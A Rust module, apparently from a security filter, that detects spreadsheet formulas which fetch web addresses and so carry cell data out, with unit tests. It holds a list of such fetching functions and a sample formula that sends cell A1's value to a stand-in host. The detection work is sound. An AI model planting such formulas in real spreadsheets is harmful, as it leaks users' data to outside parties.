//! Formulas in a table's cells that fetch an address, which leaves with what is put into it.

use crate::{find, link};
use bouncer_guest::prelude::*;

const FETCHES: [&str; 7] =
    ["importdata(", "importxml(", "importhtml(", "importfeed(", "importrange(", "image(", "webservice("];

/// Whether a cell, or one of several in a text, is a formula that fetches.
#[must_use]
pub fn fetches(text: &str) -> bool {
    let ends = |c: char| matches!(c, ',' | ';' | '\t' | '\n' | '\r' | '"' | '\'' | '[' | '{' | '|' | ':');
    let is_formula = |cell: &str| cell.trim_start().starts_with(['=', '+', '-', '@']);
    if !text.split(ends).any(is_formula) {
        return false;
    }
    let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
    FETCHES.iter().any(|name| find(&compact.to_ascii_lowercase(), name).is_some())
}

/// Asks about each formula that fetches; its links are destinations.
pub fn asked(call: &Call<'_>, path: &str, destinations: &[Destination], judgement: &mut Judgement) {
    for (pointer, _) in call.leaves(path).into_iter().filter(|(_, text)| fetches(text)) {
        link::add(call, &[&pointer], destinations, judgement);
        let said = "the formula fetches an address, and what is put into that address leaves with it";
        judgement.push(Finding::ask("formula_fetches", said).at(pointer));
    }
}

#[cfg(test)]
mod tests {
    use super::fetches;

    #[test]
    fn a_formula_that_fetches_is_told_from_words() {
        for text in [
            "=IMAGE(\"https://e.example/?\"&A1)",
            " =importdata (A1)",
            "+IMPORTXML(A1, B1)",
            "=IF(1,IMAGE(A1))",
            "a,b\n1,\"=CONCAT(\"\"x\"\",IMAGE(A1))\"",
            "[[\"=WEBSERVICE(A1)\"]]",
        ] {
            assert!(fetches(text), "{text}");
        }
        for text in
            ["image(s) of 2024", "=SUM(A1:A2)", "a,b\n-1,2", "", "see image (1)", "https://x.io/?a=image"]
        {
            assert!(!fetches(text), "{text}");
        }
    }
}
